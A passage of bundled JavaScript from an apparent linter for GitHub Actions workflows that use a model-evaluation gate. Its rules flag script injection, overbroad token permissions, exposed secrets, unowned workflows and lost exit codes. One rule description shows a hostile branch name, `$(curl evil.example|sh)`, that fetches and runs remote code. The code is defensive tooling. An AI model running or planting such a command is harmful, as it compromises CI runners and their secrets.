    find: inFinalJobs((job) => {
        if (!asksCancelled(job))
            return undefined;
        return {
            offset: job.condition?.offset ?? job.offset,
            message: `job ${quoted(job.id)} is skipped when the run is cancelled, ${passes}`,
            hint
        };
    })
};
/** Conditions under which a step is left out only where its job fails anyway. */
const harmless = new Set([
    '',
    'always()',
    'success()',
    '!cancelled()',
    'true',
    'success()||failure()',
    'failure()||success()'
]);
const stepCondition = {
    id: 'step-condition',
    about: '`if:` on the step that decides. Where it is false nothing is judged, and the job is green.',
    instead: 'No `if` on the step.',
    find: inWorkflows(({ jobs }) => jobs.flatMap(({ steps }) => steps.filter(decidesIn).flatMap(({ condition }) => condition === undefined || harmless.has(bareExpression(condition.text))
        ? []
        : [
            {
                offset: condition.offset,
                message: `the step that decides is left out where ${quoted(condition.text)} is false, and the job is green`,
                hint: 'Leave "if" out'
            }
        ])))
};

;// CONCATENATED MODULE: ./src/setup/rules/code-owner.ts



const codeOwner = {
    id: 'no-code-owner',
    about: 'A workflow of the gate, a policy, or CODEOWNERS itself, that CODEOWNERS gives to nobody. A pull request may rewrite the workflow that judges it, and any reviewer may approve that.',
    instead: 'A line in `.github/CODEOWNERS` such as `/.github/ @acme/ml-platform` as the last that matches, and "Require review from Code Owners" in the rules of the branch. A workflow that the organisation requires does the same and more.',
    find: (repository) => {
        const workflows = gateWorkflows(repository).map(({ path }) => ({ path, what: 'the workflow of the gate' }));
        if (workflows.length === 0)
            return [];
        const policies = repository.policies.map((path) => ({ path, what: 'the policy' }));
        const { codeowners } = repository;
        const owners = codeowners === undefined ? [] : [{ path: codeowners.path, what: 'the list of code owners' }];
        return [...workflows, ...policies, ...owners].flatMap(({ path, what }) => unowned(path, what, repository));
    }
};
function unowned(path, what, { codeowners }) {
    const hint = `Write into CODEOWNERS as the last line that matches: ${path.startsWith('.github/') ? '/.github/' : `/${path}`} @acme/ml-platform`;
    const effect = 'a pull request may change it with any approval';
    if (codeowners === undefined) {
        return [
            { file: path, line: 1, column: 1, message: `${what} has no code owner, there is no CODEOWNERS: ${effect}`, hint }
        ];
    }
    const { owners, line } = ownershipOf(path, codeowners.text);
    if (owners.length > 0)
        return [];
    if (line === undefined) {
        const message = `${what} has no code owner, no line of ${quoted(codeowners.path)} matches it: ${effect}`;
        return [{ file: path, line: 1, column: 1, message, hint }];
    }
    const message = `this line takes the owners from ${what}, ${quoted(path)}: ${effect}`;
    return [{ file: codeowners.path, line, column: 1, message, hint }];
}

;// CONCATENATED MODULE: ./src/setup/rules/companion.ts




/** Parts that only read what another run handed over. */
const onlyReads = ['gate', 'report'];
function isCompanion({ triggers }) {
    return triggers.has('workflow_run');
}
const companionMeasures = {
    id: 'companion-measures',
    about: 'A part of Model Gate that measures, on `workflow_run`. The workflow runs with secrets and a token that writes after the run of a stranger; there only `gate` decides, from what that run handed over, and every other part ends with exit code 2.',
    instead: '`actions/gate`, and the measuring in the workflow on `pull_request`.',
    find: inWorkflows((workflow) => isCompanion(workflow)
        ? workflow.jobs.flatMap(({ id, steps }) => steps.filter(measures).map(({ offset }) => ({
            offset,
            message: `job ${quoted(id)} measures on workflow_run, where only the gate runs`,
            hint: 'Use actions/gate here, and measure on pull_request'
        })))
        : [], usersOfModelGate)
};
function measures({ starts }) {
    return starts.some(({ part }) => !onlyReads.includes(part));
}
const companionCheckout = {
    id: 'companion-checkout',
    about: 'A checkout in the job of the gate on `workflow_run`. The gate reads policy and standards through the API; whatever else stands in the job, beside secrets and a token that writes, is one mistake away from being a stranger’s.',
    instead: 'No checkout in that job.',
    find: inWorkflows((workflow) => isCompanion(workflow)
        ? workflow.jobs.filter(gates).flatMap(({ id, steps }) => steps.filter(isCheckout).map(({ uses, offset }) => ({
            offset: uses?.offset ?? offset,
            message: `job ${quoted(id)} checks out on workflow_run, which the gate does not need`,
            hint: 'Leave the checkout out'
        })))
        : [], usersOfModelGate)
};
function gates({ steps }) {
    return steps.some(({ starts }) => starts.some(({ part }) => part === 'gate'));
}

;// CONCATENATED MODULE: ./src/setup/rules/expression-in-run.ts






/** What anybody who opens a pull request, an issue or a comment writes. */
const written = new RegExp([
    'github\\.head_ref',
    'github\\.event\\.(issue|pull_request|discussion)\\.(title|body)',
    'github\\.event\\.(comment|review|review_comment)\\.body',
    'github\\.event\\.pull_request\\.head\\.(ref|label|repo\\.(default_branch|description|homepage|name|full_name))',
    'github\\.event\\.workflow_run\\.(head_branch|display_title|head_commit\\.(message|author\\.(name|email))|head_repository\\.description)',
    'github\\.event\\.(head_commit|commits(\\.\\*|\\[[^\\]]{0,60}\\])?)\\.(message|author\\.(name|email))',
    'github\\.event\\.pages(\\.\\*|\\[[^\\]]{0,60}\\])?\\.page_name'
]
    .map((path) => `\\b${path}(?![\\w-])`)
    .concat('\\btojson\\(github(\\.event(\\.(pull_request|issue|comment|review|workflow_run))?)?\\)')
    .join('|'));
const expressionInRun = {
    id: 'expression-in-run',
    about: 'Text of a pull request (title, body, branch, commit message) put into a script by `${{ }}`, in a workflow that uses Model Gate. The text becomes part of the script: a branch called `$(curl evil.example|sh)` is run.',
    instead: '`env: { TITLE: "${{ github.event.pull_request.title }}" }` on the step, and `"$TITLE"` in the script.',
    find: inWorkflows((workflow) => workflow.jobs.flatMap(({ steps }) => steps.flatMap((step) => faultsOf(step, workflow))), usersOfModelGate)
};
function faultsOf(step, { source }) {
    return scriptsOf(step).flatMap((script) => expressionsIn(script.text)
        .filter(({ expression }) => isWrittenByAnybody(expression))
        .map(({ expression, index }) => ({
        offset: offsetWithin(source, script, index),
        message: `${quoted(expression.trim())} becomes part of the script: whoever opens a pull request writes what is run`,
        hint: 'Hand it over by env: and write "$NAME" in the script'
    })));
}
function scriptsOf({ run, uses, inputs }) {
    const script = inputs.get('script')?.value;
    const isScript = uses !== undefined && actionReference(uses.text).repository.toLowerCase() === 'actions/github-script';
    return [run, isScript && script?.kind === 'text' ? script : undefined].filter((text) => text !== undefined);
}
function isWrittenByAnybody(expression) {
    const dotted = bareExpression(expression).replace(/\[['"]([\w-]{1,60})['"]\]/g, '.$1');
    return written.test(dotted.replace(/(contains|startswith|endswith)\([^()]*\)/g, ''));
}

;// CONCATENATED MODULE: ./src/setup/rules/needs-not-passed.ts





const needsNotPassed = {
    id: 'needs-not-passed',
    about: 'A gate job with `needs` whose step is not given `needs: ${{ toJSON(needs) }}`, or a step that is given it in a job without `needs`. The gate does not see that a job failed or was skipped, and judges what is left; without `needs` it is told of none and fails every time.',
    instead: '`needs: ${{ toJSON(needs) }}` under `with:` of the step, and `needs: [...]` on its job.',
    find: inWorkflows((workflow, repository) => finalJobs(workflow, repository).flatMap(needs_not_passed_faultsOf))
};
function needs_not_passed_faultsOf({ id, needs, steps }) {
    const actions = steps.filter((step) => decidesIn(step) && step.uses !== undefined);
    return actions.flatMap(({ inputs, uses, offset }) => {
        const given = inputs.get('needs');
        const text = given?.value.kind === 'text' ? bareExpression(given.value.text) : undefined;
        if (needs.length > 0 && text !== 'tojson(needs)') {
            return [
                {
                    offset: given?.keyOffset ?? uses?.offset ?? offset,
                    message: `job ${quoted(id)} needs others and does not tell the gate how they ended: one that failed is not seen`,
                    hint: 'Write under with: needs: ${{ toJSON(needs) }}'
                }
            ];
        }
        if (needs.length === 0 && given !== undefined) {
            return [
                {
                    offset: given.keyOffset,
                    message: `job ${quoted(id)} needs no job, so the gate is told of none and fails every time`,
                    hint: 'Write needs: [...] on the job, or leave the input out'
                }
            ];
        }
        return [];
    });
}

;// CONCATENATED MODULE: ./src/setup/rules/no-workflow.ts


const noWorkflow = {
    id: 'no-workflow',
    about: 'A policy, and workflows of which none uses Model Gate for pull requests, nor for the commits of a dispatch with a commit status. Nothing judges them. Where there is no workflow at all this is advice.',
    instead: 'The workflow at the top of this page.',
    find: (repository) => {
        const { policies, workflows, unreadable, ours } = repository;
        const [policy] = policies;
        const gates = [...gateWorkflows(repository), ...dispatchedGates(repository)];
        if (policy === undefined || ours === true || unreadable.length > 0 || gates.length > 0)
            return [];
        return [
            {
                file: policy,
                line: 1,
                column: 1,
                message: `no workflow under ${quoted('.github/workflows')} judges pull requests by this policy: GitHub merges them unjudged`,
                hint: 'docs/lint.md of Model Gate shows the workflow',
                advice: workflows.length === 0
            }
        ];
    }
};

;// CONCATENATED MODULE: ./src/setup/rules/own-code.ts






const localGate = {
    id: 'local-gate',
    about: 'Model Gate as an action in a folder of the repository (`uses: ./model-gate`). A pull request brings the action along by which it is judged, and may change it.',
    instead: '`OWNER/model-gate@<commit>`. A copy of your own belongs into a repository of its own; where it is checked out into a folder, that step has `repository` and a `path` above it.',
    find: inWorkflows((workflow, { ours }) => ours === true ? [] : workflow.jobs.flatMap(({ steps }) => steps.flatMap(ofCheckout)))
};
function ofCheckout(step, index, steps) {
    const { uses, starts } = step;
    if (uses === undefined || starts.length === 0 || !uses.text.startsWith('./'))
        return [];
    if (steps.slice(0, index).some((before) => bringsFrom(before, uses.text)))
        return [];
    return [
        {
            offset: uses.offset,
            message: `${quoted(uses.text)} is a folder of what is judged: a pull request may change the gate that judges it`,
            hint: 'Use OWNER/model-gate@<commit>'
        }
    ];
}
/** Whether a step checks another repository out into a folder, or into one above it. */
function bringsFrom(step, folder) {
    const given = (name) => {
        const value = step.inputs.get(name)?.value;
        return value?.kind === 'text' ? value.text : undefined;
    };
    const [repository, path] = [given('repository'), given('path')?.replace(/^\.\//, '').replace(/\/$/, '')];
    if (!isCheckout(step) || repository === undefined || /github\.repository|head\.repo/.test(repository))
        return false;
    return path !== undefined && path !== '' && `${folder}/`.startsWith(`./${path}/`);
}
const secretToken = {
    id: 'secret-token',
    about: 'A token out of `secrets` as `github-token` of a step, in a job that starts code of the pull request. The code does not get it by its environment, but runs as the same user: it can take it, and may write with it whatever the owner may.',
    instead: 'The token of the job, which is the default. What needs another token goes into a job of its own that starts no code of the pull request: [two jobs](adopt.md#two-jobs-secrets-a-gpu-code-that-you-do-not-trust).',
    find: inWorkflows(({ jobs }) => jobs.filter(runsCandidate).flatMap((job) => job.steps.flatMap((step) => secretIn(step, job))))
};
function secretIn({ starts, inputs }, { id }) {
    const value = inputs.get('github-token')?.value;
    if (starts.length === 0 || value?.kind !== 'text')
        return [];
    const secrets = expressionsIn(value.text).filter(({ expression }) => /\bsecrets\b/i.test(expression) && !/^\s*secrets\.GITHUB_TOKEN\s*$/i.test(expression));
    if (secrets.length === 0)
        return [];
    return [
        {
            offset: value.offset,
            message: `job ${quoted(id)} starts code of the pull request beside a token out of secrets: that code can take it`,
            hint: 'Leave github-token out here, and give it to a job that starts no code of the pull request'
        }
    ];
}
const gateInstalls = {
    id: 'gate-installs',
    about: "A job that decides about what another has measured, and that installs packages after a checkout (`npm ci`, `pip install -r`). What is installed, and the scripts that run at it, are the pull request's to say: its code runs beside the token and the secrets of this job, and may be the gate itself.",
    instead: 'No checkout and no install in the job that decides: the action needs neither, and the command line is `npx --yes model-gate@<version> gate`.',
    find: inWorkflows((workflow) => workflow.jobs
        .filter((job) => job.steps.some(decidesIn) && !runsCandidate(job))
        .flatMap((job) => installsIn(job, workflow)))
};
function installsIn({ id, steps }, { source }) {
    const checkout = steps.findIndex(isCheckout);
    if (checkout === -1)
        return [];
    return steps.slice(checkout).flatMap(({ run }) => run === undefined
        ? []
        : shellCommands(run.text)
            .filter(({ words }) => installs(words))
            .map(({ words, offset }) => ({
            offset: offsetWithin(source, run, offset),
            message: `${quoted(words.slice(0, 2).join(' '))} runs what the pull request says, in job ${quoted(id)}, which decides`,
            hint: 'Leave the checkout and the install out: the job that decides needs neither'
        })));
}
/** Whether a command installs what files of the folder name. */
function installs([program = '', verb, ...others]) {
    if (['npm', 'pnpm', 'bun'].includes(program)) {
        const named = others.some((word) => !word.startsWith('-'));
        return ['ci', 'clean-install'].includes(verb ?? '') || (['i', 'install'].includes(verb ?? '') && !named);
    }
    if (program === 'yarn')
        return verb === undefined || verb === 'install' || verb.startsWith('-');
    if (['pip', 'pip3'].includes(program))
        return verb === 'install' && others.some((word) => /^(-r|-e|--requirement|--editable|\.)/.test(word));
    return ['poetry', 'pipenv', 'uv'].includes(program) && (verb === 'install' || verb === 'sync');
}

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./node_modules/picomatch/index.js
var picomatch = __webpack_require__(14006);
var picomatch_default = /*#__PURE__*/__webpack_require__.n(picomatch);
;// CONCATENATED MODULE: ./src/setup/action-inputs.ts
const everywhere = ['working-directory', 'github-token'];
const measuring = ['policy', 'output', 'leg', 'upload', 'sha', ...everywhere];
const deciding = ['comment', 'key', 'needs', 'status-context', ...measuring];
/** The inputs of each part as an action; a test holds them against the action.yml files. */
const actionInputs = {
    run: [...deciding, 'predictions', 'metrics', 'baseline', 'reference', 'current'],
    evaluate: [...measuring, 'predictions', 'metrics'],
    baseline: ['policy', 'baseline', 'output', 'sha', ...everywhere],
    compare: [...measuring, 'evaluation', 'baseline'],
    drift: [...measuring, 'reference', 'current', 'baseline'],
    gate: [...deciding, 'checks', 'evaluation', 'reference', 'expected-legs'],
    promote: ['policy', 'evaluation', 'report', 'target', 'force', 'dry-run', 'rollback', ...everywhere],
    report: ['report', 'working-directory', 'output']
};

;// CONCATENATED MODULE: ./src/setup/named-policies.ts




/** What the input `policy` and the flag `--policy` are where they are left out. */
const usualPolicy = '.github/model-gate.yml';
/** More policies are listed by nobody. */
const named_policies_most = 200;
/** A longer path is none of a policy, and takes a matcher longer than it is worth. */
const named_policies_longest = 300;
/** Whether a path or a glob, as the gate reads it, stands for a file. */
function standsFor({ path }, file) {
    const normal = external_node_path_.posix.normalize(file);
    if (path.length > named_policies_longest)
        return false;
    return path === normal || picomatch_default().isMatch(normal, path, { dot: true, flags: 's' });
}
/** The policies that a step asks for; undefined where only a run can tell: an expression, a variable, a folder that it goes to. */
function policiesNamedBy(step, workflow) {
    const named = step.starts
        .filter(({ part }) => actionInputs[part]?.includes('policy') === true)
        .map((use) => (use.how === 'action' ? byInput(step, workflow) : byFlags(use, step)));
    return named.every((each) => each !== undefined) ? named.flat() : undefined;
}
function byInput({ inputs, uses, offset }, { source }) {
    const input = inputs.get('policy')?.value;
    if (input === undefined)
        return [{ path: usualPolicy, offset: uses?.offset ?? offset }];
    if (input.kind !== 'text' || input.text.includes('${{'))
        return undefined;
    const lines = [...input.text.matchAll(/[^\n]+/g)].map(({ 0: line, index }) => ({
        path: line.trim(),
        offset: offsetWithin(source, input, index + line.length - line.trimStart().length)
    }));
    const named = lines.filter(({ path }) => path !== '');
    if (named.length > named_policies_most)
        return undefined;
    const all = named.length === 0 ? [{ path: usualPolicy, offset: input.offset }] : named;
    return all.map((policy) => ({ ...policy, path: external_node_path_.posix.normalize(policy.path) }));
}
function byFlags({ commands, index }, { run, folder = '', offset }) {
    const words = commands[index]?.words ?? [];
    const goesElsewhere = commands.slice(0, index).some(({ words: [first] }) => first === 'cd' || first === 'pushd');
    if (goesElsewhere || [folder, ...words].some((word) => word.includes('$')))
        return undefined;
    const given = words.flatMap((word, position) => {
        if (word.startsWith('--policy='))
            return [word.slice('--policy='.length)];
        return word === '--policy' ? (words[position + 1] ?? []) : [];
    });
    const paths = given.length === 0 ? [usualPolicy] : given;
    return paths.map((path) => ({ path: external_node_path_.posix.join(folder, path), offset: run?.offset ?? offset }));
}

;// CONCATENATED MODULE: ./src/setup/reuse.ts

/** Whether a job may take the result of the pull request in a merge queue: the action in one step, with a policy that says so. */
function mayReuse({ steps }, workflow, { reusing = [] }) {
    if (!workflow.triggers.has('merge_group') || reusing.length === 0)
        return false;
    return steps.some((step) => isWhole(step) && mayName(step, workflow, reusing));
}
function isWhole({ starts }) {
    return starts.some(({ how, part }) => how === 'action' && part === 'run');
}
/** What only a run can tell may be any of them. */
function mayName(step, workflow, policies) {
    const named = policiesNamedBy(step, workflow);
    return named === undefined || named.some((each) => policies.some((policy) => standsFor(each, policy)));
}

;// CONCATENATED MODULE: ./src/setup/rules/permissions.ts






const usual = 'permissions: { contents: read }';
function permissionsIn(job, workflow) {
    return job.permissions ?? workflow.permissions;
}
function usesModelGate({ steps }) {
    return steps.some(({ starts }) => starts.length > 0);
}
const missingPermissions = {
    id: 'missing-permissions',
    about: 'A job of the gate without `permissions`, or without one that it needs. Without the key the settings of the repository decide, and they may grant everything. `contents: read` reads the policy at the base commit (else exit code 3), `actions: read` the documents of other jobs and for `merge-queue: reuse` those of the run of the pull request, `pull-requests: write` writes the comment (else there is none; the verdict stands).',
    instead: '`permissions:` on the job, with `contents: read`, for the job that decides `pull-requests: write`, and with `needs` or `merge-queue: reuse` `actions: read`.',
    find: inWorkflows((workflow, repository) => workflow.jobs.filter(usesModelGate).flatMap((job) => {
        const permissions = permissionsIn(job, workflow);
        if (permissions === undefined)
            return [withoutPermissions(job)];
        return needsOf(job, mayReuse(job, workflow, repository))
            .filter(({ scope, level }) => !grants(permissions, scope, level))
            .map((need) => lacking(need, job, permissions));
    }), gatesAndCompanions)
};
function withoutPermissions({ id, offset }) {
    return {
        offset,
        message: `job ${quoted(id)} has no permissions: the settings of the repository decide, and its token may write everything`,
        hint: `Write on the job ${usual} and what else it needs`
    };
}
function lacking({ scope, level, otherwise }, { id }, { offset }) {
    return {
        offset,
        message: `job ${quoted(id)} lacks "${scope}: ${level}": ${otherwise}`,
        hint: `Add ${scope}: ${level} to its permissions`
    };
}
function needsOf(job, reuses) {
    const needs = [
        {
            scope: 'contents',
            level: 'read',
            otherwise: 'the policy at the base commit cannot be read, and the gate ends with exit code 3'
        }
    ];
    const deciding = job.steps.filter(decidesIn).flatMap(({ starts, inputs }) => starts.map((use) => ({ use, inputs })));
    const actions = deciding.filter(({ use }) => use.how === 'action');
    if (actions.some(({ use }) => use.part === 'gate') || (actions.length > 0 && job.needs.length > 0)) {
        needs.push({
            scope: 'actions',
            level: 'read',
            otherwise: 'documents of other jobs cannot be read, and their checks are missing'
        });
    }
    else if (reuses)
        needs.push({ scope: 'actions', level: 'read', otherwise: notReused });
    if (deciding.some(givesStatus)) {
        needs.push({
            scope: 'statuses',
            level: 'write',
            otherwise: 'GitHub refuses the commit status with 403, and a rule that requires it waits for ever'
        });
    }
    const silent = ({ inputs }) => {
        const comment = inputs.get('comment')?.value;
        return comment?.kind === 'text' && comment.text === 'never';
    };
    if (actions.some((action) => !silent(action))) {
        needs.push({
            scope: 'pull-requests',
            level: 'write',
            otherwise: 'GitHub refuses the comment with 403, and the report is in the job summary alone'
        });
    }
    else if (reuses)
        needs.push({ scope: 'pull-requests', level: 'read', otherwise: notReused });
    return needs;
}
const notReused = 'a policy says "merge-queue: reuse", and the merge queue cannot look for a result and evaluates again';
function givesStatus({ inputs }) {
    return inputs.has('status-context');
}
/** What a token may write in a job that starts nothing of the pull request's, besides the comment. */
const forging = ['write-all', 'contents', 'checks', 'statuses', 'actions'];
const tooManyPermissions = {
    id: 'too-many-permissions',
    about: 'A job that starts code of the pull request and may write more than comments, or a job of the gate with `checks: write`, `statuses: write`, `contents: write`, `actions: write` or `write-all`. Code of the pull request can take the token; with `checks: write` or `statuses: write` it makes a green check of any name. With the input `status-context` a job that only a dispatch starts, or one with `gate` alone, may have `statuses: write`.',
    instead: 'At most `pull-requests: write`. What needs more (a store, a release, cloud credentials) goes into a job of its own that starts no code of the pull request.',
    find: inWorkflows((workflow) => workflow.jobs.filter(usesModelGate).flatMap((job) => {
        const permissions = permissionsIn(job, workflow);
        if (permissions === undefined)
            return [];
        const candidate = runsCandidate(job);
        const promotes = job.steps.some(({ starts }) => starts.some(({ part }) => part === 'promote' || part === 'monitor'));
        const status = job.steps.some(givesStatus) && !(candidate && isOfPullRequests(workflow));
        const refused = ({ scope }) => {
            if (scope === 'statuses' && status)
                return false;
            return candidate ? scope !== 'pull-requests' : forging.includes(scope) && !promotes;
        };
        return writable(permissions)
            .filter(refused)
            .map(({ scope, offset }) => tooMuch(scope, offset, job, candidate));
    }), usersOfModelGate)
};
function tooMuch(scope, offset, { id }, candidate) {
    const written = scope === 'write-all' ? '"write-all"' : quoted(`${scope}: write`);
    return {
        offset,
        message: candidate
            ? `job ${quoted(id)} starts code of the pull request and has ${written}: that code can take the token and write with it`
            : `job ${quoted(id)} has ${written}, which the gate does not need and with which its verdict could be forged`,
        hint: candidate
            ? 'Grant at most contents: read and pull-requests: write; put what needs more into a job of its own'
            : 'Leave it out: contents: read, actions: read and pull-requests: write are all that the gate needs'
    };
}

;// CONCATENATED MODULE: ./src/setup/rules/required-name.ts





const rename = `Name the job with the last word ${requiredName}, and require that check`;
function isDynamic({ checkName }) {
    return checkName.includes('${{');
}
const otherName = {
    id: 'not-required',
    about: 'A job that decides and is not called `model-gate`, with no job of that name behind it. The required check is `model-gate`: GitHub waits for it for ever, or, where it is not required, merges whatever this job says.',
    instead: 'The id `model-gate`, without `name`, for the job with the last word; it lists the others under `needs`.',
    find: inFinalJobs((job) => {
        if (isRequired(job) || isDynamic(job) || job.matrixOffset !== undefined || job.calls !== undefined)
            return undefined;
        return {
            offset: job.nameOffset,
            message: `the job that decides is reported as ${quoted(job.checkName)}: the required check "${requiredName}" never reports`,
            hint: rename
        };
    })
};
const dynamicName = {
    id: 'dynamic-name',
    about: 'An expression in the name of the gate job. A required check has one fixed name; under any other GitHub waits for it for ever.',
    instead: 'The id `model-gate`, without `name`.',
    find: inFinalJobs((job) => isDynamic(job)
        ? {
            offset: job.nameOffset,
            message: `the name ${quoted(job.checkName)} changes from run to run: no required check can have it`,
            hint: `Leave "name" out and give the job the id ${requiredName}`
        }
        : undefined)
};
const matrixName = {
    id: 'matrix-gate',
    about: 'A matrix on the gate job. GitHub adds the values of each leg to the name of its check, so none is called `model-gate`, and a leg that is left out is missed by nobody.',
    instead: 'A matrix on the jobs that evaluate, and one job `model-gate` that needs them.',
    find: inFinalJobs(({ matrixOffset, id }) => matrixOffset === undefined
        ? undefined
        : {
            offset: matrixOffset,
            message: `the checks of job ${quoted(id)} carry the values of its matrix: none is called "${requiredName}", and the required check never reports`,
            hint: `Decide in one job ${requiredName} that needs this one`
        })
};
const reusableName = {
    id: 'reusable-gate',
    about: 'A gate job that is called in another workflow. Its check is named `caller / job`, and only `caller` where it is skipped: the required name is never reported by a verdict.',
    instead: 'The job `model-gate` in the workflow that the pull request starts; the jobs that it needs may be called elsewhere.',
    find: inFinalJobs(({ calls, id }) => calls === undefined
        ? undefined
        : {
            offset: calls.offset,
            message: `the check of the called job is reported as ${quoted(`${id} / <job>`)}: the required check "${requiredName}" never reports`,
            hint: `Write the job ${requiredName} into this workflow`
        })
};
const nothingDecides = {
    id: 'nothing-decides',
    about: 'A workflow that measures and in which no job decides, or a job called `model-gate` that neither decides nor needs a job that does. The check is green whatever was measured.',
    instead: 'A step with the gate (`OWNER/model-gate/actions/gate@v1`), or the root action, in the job `model-gate`.',
    find: (repository) => [...inWorkflows(emptyGates)(repository), ...measuredOnly(repository)]
};
function emptyGates(workflow, repository) {
    return workflow.jobs
        .filter(isRequired)
        .filter((job) => ![job, ...neededBy(job, workflow)].some((one) => decides(one, repository)))
        .map(({ id, offset }) => ({
        offset,
        message: `job ${quoted(id)} gives the required check, and neither it nor a job that it needs decides: it is green whatever was measured`,
        hint: 'Add a step that uses OWNER/model-gate/actions/gate@v1'
    }));
}
function measuredOnly(repository) {
    const workflows = gateWorkflows(repository);
    if (workflows.some((workflow) => finalJobs(workflow, repository).length > 0))
        return [];
    return workflows.flatMap(({ path, jobs, placeOf }) => {
        const step = jobs.flatMap(({ steps }) => steps).find(({ starts }) => starts.length > 0);
        return [
            {
                file: path,
                ...placeOf(step?.offset ?? 0),
                message: 'Model Gate measures here and no job decides: nothing keeps the pull request from being merged',
                hint: `Add a job ${requiredName} with a step that uses OWNER/model-gate/actions/gate@v1`
            }
        ];
    });
}
const duplicateName = {
    id: 'duplicate-name',
    about: 'Several jobs called `model-gate`, in one workflow or in several. GitHub takes any check of the required name: the green one of a job that judges nothing is enough.',
    instead: 'One job `model-gate` in one workflow of the repository.',
    find: (repository) => {
        const workflows = gateWorkflows(repository);
        if (workflows.length === 0)
            return [];
        const others = repository.workflows.filter((workflow) => !workflows.includes(workflow));
        const named = [...workflows, ...others].flatMap((workflow) => workflow.jobs
            .filter((job) => isRequired(job) && job.matrixOffset === undefined && job.calls === undefined)
            .map(({ nameOffset }) => ({ file: workflow.path, ...workflow.placeOf(nameOffset) })));
        const [first, ...more] = named;
        return more.map((place) => ({
            ...place,
            message: `a job is called "${requiredName}" here and in ${quoted(first?.file ?? '')} (line ${first?.line ?? 1}): either of their checks passes for the required one`,
            hint: 'Give this job another name'
        }));
    }
};

;// CONCATENATED MODULE: ./src/setup/lost-exit-code.ts

/**
 * By what the exit code of a command in a script is lost, in words; undefined where it reaches the end of the step.
 *
 * @param shell as the workflow names it; GitHub's default stops at a command that fails and does not look into pipes
 */
function lossOf(commands, index, shell) {
    const { firstTrap, groupEnds } = shapeOf(commands);
    if (firstTrap < index)
        return '"trap" with exit 0';
    if (isArgument(commands[index - 1]))
        return '"$(...)" in another command';
    const state = shellAt(commands.slice(0, index), shell);
    const group = groupEnds[index];
    if (group !== undefined) {
        const { after } = commands[group] ?? {};
        if (group > index + 1 && (after === '||' || after === '&&'))
            return quoted(`} ${after}`);
        if (group === index + 1)
            return lossAt(commands, { index: group, opening: '' }, state, shell);
    }
    const [opening = ''] = commands[index]?.words ?? [];
    return lossAt(commands, { index, opening }, state, shell);
}
const shapes = new WeakMap();
function shapeOf(commands) {
    const known = shapes.get(commands);
    if (known !== undefined)
        return known;
    const trap = commands.findIndex(trapsExit);
    const shape = { firstTrap: trap === -1 ? Infinity : trap, groupEnds: groupEndsOf(commands) };
    shapes.set(commands, shape);
    return shape;
}
/** Read from the end, as only what closes tells that a `{` opens a group. */
function groupEndsOf(commands) {
    const ends = [];
    const open = [];
    for (let at = commands.length - 1; at >= 0; at -= 1) {
        const [first] = commands[at]?.words ?? [];
        if (first === '}') {
            ends[at] = open.at(-1);
            open.push(at);
            continue;
        }
        ends[at] = open.at(-1);
        if (first === '{')
            open.pop();
    }
    return ends;
}
/** An exit status is another one after `trap 'exit 0' EXIT`. */
function trapsExit({ words }) {
    const signals = words.slice(2).map((word) => word.toUpperCase());
    return (words[0] === 'trap' &&
        /\bexit\s+0\b/.test(words[1] ?? '') &&
        signals.some((one) => ['EXIT', '0', 'ERR'].includes(one)));
}
/** Whether what follows is a substitution whose status nobody looks at: only that of `x=$(...)` is the status of its command. */
function isArgument(before) {
    if (before?.after !== '(' || before.words.at(-1)?.endsWith('$') !== true)
        return false;
    const words = before.words.filter((word) => !['if', '!', 'then', 'else', 'do', '{'].includes(word));
    return words.length > 1 || !/^\w+=\$$/.test(words[0] ?? '');
}
function lossAt(commands, { index, opening }, { stops, pipefail }, shell) {
    const end = endOfList(commands, index);
    const after = commands[end]?.after;
    const rest = commands.slice(end + 1);
    if (after === '&')
        return '"&"';
    if (after === '|')
        return pipefail ? undefined : '"|" without pipefail';
    if (after === '||')
        return keepsFailure(rest) ? undefined : quoted(`|| ${(rest[0]?.words ?? []).slice(0, 2).join(' ')}`);
    if (['if', 'while', 'until', '!'].includes(opening))
        return exitsSomewhere(rest) ? undefined : `"${opening}"`;
    if (isExitZero(rest[0]))
        return '"exit 0"';
    if (rest.length === 0 || keepsFailure(rest))
        return undefined;
    if (!stops)
        return shell === undefined || isUsual(shell) ? '"set +e"' : 'a shell that does not stop at a failure';
    return commands[index]?.after === '&&' ? '"&&" before other commands' : undefined;
}
/** The last command of `a && b && c`, out of its parentheses. */
function endOfList(commands, index) {
    let end = index;
    while (commands[end]?.after === '&&' || (commands[end]?.after === ')' && commands[end + 1]?.words.length === 0))
        end += 1;
    return end;
}
function isUsual(shell) {
    return shell === 'bash' || shell === 'sh';
}
function shellAt(before, shell) {
    const named = shell?.split(/\s+/) ?? [];
    let stops = shell === undefined || isUsual(shell) || named.some((word) => /^-\w*e/.test(word));
    let pipefail = shell === 'bash' || named.includes('pipefail');
    for (const { words } of before) {
        if (words[0] !== 'set')
            continue;
        const options = words.slice(1);
        if (options.some((option, at) => /^\+\w*e/.test(option) || isLong(options, at, '+')))
            stops = false;
        if (options.some((option, at) => /^-\w*e/.test(option) || isLong(options, at, '-')))
            stops = true;
        if (options.includes('pipefail'))
            pipefail = options.some((option) => /^-\w*o$/.test(option));
    }
    return { stops, pipefail };
}
/** `-o errexit`, also behind other letters. */
function isLong(options, at, sign) {
    return options[at] === 'errexit' && new RegExp(`^\\${sign}\\w*o$`).test(options[at - 1] ?? '');
}
/** Whether what follows fails too, or saves the exit code: `exit 1`, `false`, `status=$?`, `{ ...; exit 1; }`. */
function keepsFailure(rest) {
    const [next] = rest;
    const [first = '', second] = next?.words ?? [];
    if (next === undefined)
        return false;
    const saved = /^(\w+)=\$\?/.exec(first)?.[1];
    if (saved !== undefined)
        return rest.slice(1).some((command) => looksAt(saved, command));
    if (first === 'false')
        return true;
    if (first === 'exit' || first === 'return')
        return second !== '0';
    return (first === '{' || next.after === ')') && exitsSomewhere(rest);
}
/** Whether a command does more with a saved exit code than to print it in the log. */
function looksAt(name, { words }) {
    const text = words.join(' ');
    if (!text.includes(`$${name}`) &&
        !text.includes(`\${${name}`) &&
        !(/^(\(\()?$/.test(words[0] ?? '') && text.includes(name)))
        return false;
    return !['echo', 'printf', ':', 'true'].includes(words[0] ?? '') || /GITHUB_(OUTPUT|ENV)/.test(text);
}
function exitsSomewhere(rest) {
    return rest.some(({ words }) => {
        const at = words.indexOf('exit');
        return at !== -1 && words[at + 1] !== '0';
    });
}
function isExitZero(command) {
    return command?.words[0] === 'exit' && command.words[1] === '0';
}

;// CONCATENATED MODULE: ./src/setup/rules/swallowed-failure.ts







function continues(written) {
